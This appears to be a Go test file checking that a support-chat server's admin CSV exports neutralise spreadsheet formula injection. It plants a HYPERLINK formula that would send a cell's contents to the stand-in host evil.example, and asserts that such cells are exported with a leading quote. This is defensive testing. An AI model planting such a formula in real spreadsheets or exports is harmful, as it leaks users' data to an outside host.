package server_test

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// TestCSVExportsNeutralizeFormulas: a value that a spreadsheet would run
// as a formula (here a block reason quoting the visitor) goes out of both
// CSV exports as text, with a leading single quote.
func TestCSVExportsNeutralizeFormulas(t *testing.T) {
	e := newStaffEnv(t)
	id := e.visitor(t)
	e.must(t, http.StatusOK, nil, agentTok, "POST", "/v1/agent/queues/support/take", "")
	e.must(t, http.StatusOK, nil, agentTok, "POST", "/v1/agent/conversations/"+id+"/disconnect",
		`{"block": true, "reason_category": "abusive_language", "notes": "-1+2", "minutes": 60}`)
	var found blockList
	e.must(t, http.StatusOK, &found, superTok, "GET", "/v1/admin/blocks?kind=conversation", "")
	if len(found.Blocks) != 1 {
		t.Fatalf("conversation blocks = %+v", found.Blocks)
	}
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"details")`
	e.must(t, http.StatusOK, nil, superTok, "PATCH", "/v1/admin/blocks/"+found.Blocks[0].ID, `{"reason": "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")"}`)

	for _, tc := range []struct {
		path string
		want map[string]string
	}{
		{"/v1/admin/conversations.csv", map[string]string{"block_reason": "'" + formula}},
		{"/v1/admin/blocks.csv?kind=conversation", map[string]string{"reason": "'" + formula, "notes": "'-1+2"}},
	} {
		t.Run(tc.path, func(t *testing.T) {
			r := e.must(t, http.StatusOK, nil, superTok, "GET", tc.path, "")
			rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
			if err != nil {
				t.Fatalf("%v\n%s", err, r.body)
			}
			var row []string
			for _, rw := range rows[1:] {
				if slices.Contains(rw, id) || slices.Contains(rw, found.Blocks[0].ID) {
					row = rw
				}
			}
			if row == nil {
				t.Fatalf("no row for %s in %q", id, rows)
			}
			for name, want := range tc.want {
				if got := row[slices.Index(rows[0], name)]; got != want {
					t.Errorf("%s = %q, want %q", name, got, want)
				}
			}
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s = %q goes out live", rows[0][i], cell)
				}
			}
		})
	}
}
